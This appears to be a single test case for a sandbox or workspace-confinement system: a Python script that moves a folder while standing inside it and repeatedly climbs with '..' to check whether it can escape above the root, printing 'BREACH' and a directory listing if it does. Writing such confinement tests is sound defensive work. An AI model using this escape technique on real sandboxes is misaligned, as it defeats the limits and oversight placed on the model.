# attack: move a folder up while standing deep inside it, so that ".." climbs past the workspace
# must end: completed
import os
home, root = os.getcwd(), os.stat("/")
os.makedirs("a/b/c/d")
os.mkdir("moved")
os.chdir("a/b/c/d")
os.rename(home + "/a/b", home + "/moved/b")
for _ in range(64):
    os.chdir("..")
if not os.path.samestat(os.stat("."), root):
    print("BREACH: above the root:", os.listdir(".")[:20])
os.chdir(home)
print("held")
